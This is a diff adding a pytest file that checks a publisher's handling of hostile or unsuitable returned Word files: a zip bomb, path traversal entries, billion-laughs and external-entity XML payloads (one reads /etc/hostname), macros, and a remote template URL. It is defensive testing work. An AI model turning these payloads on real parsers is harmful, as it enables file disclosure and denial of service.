@@ -1,0 +1,160 @@
+"""Hostile and unsuitable files from outside: refused or named, within bounds, nothing fetched."""
+
+import io
+import resource
+import time
+import zipfile
+
+import pytest
+
+from publisher.diagnostics import PublisherError
+from publisher.review.gate import open_returned
+from publisher.review.read import read_returned
+from tests.returned import docx, p
+
+
+def refused(content):
+    with pytest.raises(PublisherError) as caught:
+        read_returned(content, "returned.docx")
+    return str(caught.value)
+
+
+def with_part(name, content, base=None):
+    stream = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(base or docx(p("text")))) as old,
+        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
+    ):
+        for each in old.namelist():
+            if each != name:
+                new.writestr(each, old.read(each))
+        new.writestr(name, content)
+    return stream.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (
+            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
+            "returned.docx: MUST FIX R611: this is an old Word file (.doc) or one with a password, which is not opened\n"
+            "    open it in Word or LibreOffice, take the password away, save it as 'Word Document (.docx)' and collect"
+            " that; keep the file as it came",
+        ),
+        (
+            b"%PDF-1.7 ...",
+            "returned.docx: MUST FIX R612: this is a PDF, in which changes cannot be told from the text\n"
+            "    ask for the Word file, or write the remarks into the sheet Review by hand",
+        ),
+        (
+            b"PK\x03\x04" + b"x" * 200,
+            "returned.docx: MUST FIX R614: the file is damaged, or no Word document at all\n"
+            "    ask for it once more; if it opens in Word, save it there as 'Word Document (.docx)'",
+        ),
+    ],
+)
+def test_a_file_that_is_no_word_document_is_told_what_it_is(content, message):
+    assert refused(content) == message
+
+
+def test_an_archive_of_something_else_is_told():
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w") as archive:
+        archive.writestr("content.xml", "<x/>")
+
+    assert refused(stream.getvalue()) == (
+        "returned.docx: MUST FIX R615: this is no Word document\n"
+        "    drafts come back as .docx; .odt, .rtf and .doc must be saved as 'Word Document (.docx)' first"
+    )
+
+
+def test_a_file_that_is_too_large_is_told():
+    assert refused(b"PK" + b"\0" * (51 * 2**20)) == (
+        "returned.docx: MUST FIX R613: the file is larger than a draft can be: 51 MB, 50 MB at the most\n"
+        "    ask for a copy without pictures and recordings"
+    )
+
+
+NOT_OPENED = (
+    "returned.docx: MUST FIX R616: the file is built in a way that no word processor writes, and was not opened\n"
+    "    do not open it either; ask the sender whether they sent it"
+)
+
+
+def bomb():
+    return with_part("word/media/image1.png", b"\0" * (80 * 2**20))
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        bomb(),
+        with_part("../evil.xml", "<x/>"),
+        with_part("/etc/evil.xml", "<x/>"),
+        with_part("WORD/Document.xml", "<x/>"),
+        with_part("word/document.xml", "<w>" * 100_000 + "</w>" * 100_000),
+    ],
+    ids=["zip bomb", "path upwards", "absolute path", "name twice but for case", "nesting"],
+)
+def test_an_archive_that_no_word_processor_writes_is_not_opened(content):
+    started, before = time.process_time(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+
+    assert refused(content) == NOT_OPENED
+
+    assert time.process_time() - started < 5
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300_000  # kB
+
+
+@pytest.mark.parametrize(
+    "head",
+    [
+        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
+        '<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/hostname">]>',
+        '<!DOCTYPE x SYSTEM "https://example.org/x.dtd">',
+    ],
+    ids=["billion laughs", "external entity", "external type"],
+)
+def test_a_part_with_a_document_type_is_not_opened(head):
+    content = with_part("word/document.xml", f'<?xml version="1.0"?>{head}<x>&file;</x>')
+
+    assert refused(content) == (
+        "returned.docx: MUST FIX R617: the part 'word/document.xml' of the file holds instructions that could add, hide or"
+        " fetch text, and was not opened\n    do not open the file; ask the sender whether they sent it"
+    )
+
+
+def test_what_is_suspicious_is_named_and_the_text_is_read():
+    relations = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
+        ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
+        ' Target="https://example.org/evil.dotm" TargetMode="External"/></Relationships>'
+    )
+    content = with_part("word/_rels/settings.xml.rels", relations)
+    content = with_part("word/vbaProject.bin", b"macro", content)
+    content = with_part("word/embeddings/object1.bin", b"object", content)
+
+    opened = open_returned(content, "returned.docx")
+
+    assert [str(each) for each in opened.diagnostics] == [
+        "returned.docx: PLEASE CHECK R618: the file holds macros; they were not run, the text was read\n"
+        "    do not run them",
+        "returned.docx: PLEASE CHECK R619: the file holds an embedded object, 'word/embeddings/object1.bin', which was not"
+        " opened\n    look at it in Word, if you trust the sender",
+        "returned.docx: PLEASE CHECK R620: the file wants to fetch something from 'https://example.org/evil.dotm', which"
+        " was not done\n    do not let Word fetch it",
+    ]
+    assert read_returned(content, "returned.docx").value.body
+
+
+def test_many_comments_and_much_text_are_read_within_seconds():
+    comment = '<w:comment w:id="{0}" w:author="A"><w:p><w:r><w:t>{0}</w:t></w:r></w:p></w:comment>'
+    comments = "".join(comment.format(number) for number in range(10_000))
+    namespace = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+    started = time.process_time()
+
+    found = read_returned(
+        docx(p("word " * 200_000) * 5, comments=f"<w:comments {namespace}>{comments}</w:comments>"), "returned.docx"
+    )
+
+    assert len(found.value.comments) == 10_000
+    assert time.process_time() - started < 20
